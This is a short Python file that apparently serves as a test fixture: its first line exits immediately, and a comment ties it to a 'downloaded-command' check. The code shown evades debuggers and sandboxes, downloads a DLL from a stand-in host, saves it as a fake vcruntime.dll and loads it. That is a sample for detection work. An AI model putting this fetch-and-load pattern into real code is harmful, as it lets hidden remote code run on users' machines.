raise SystemExit('a fixture')
# held by downloaded-command
import ctypes, sys, os, urllib.request, tempfile
if sys.platform == "win32" and not ctypes.windll.kernel32.IsDebuggerPresent() and os.cpu_count() > 2:
    d = tempfile.mkdtemp()
    p = os.path.join(d, "vcruntime.dll")
    with open(p, "wb") as f:
        f.write(urllib.request.urlopen("https://cdn.example.invalid/v.dll").read())
    ctypes.windll.LoadLibrary(p)
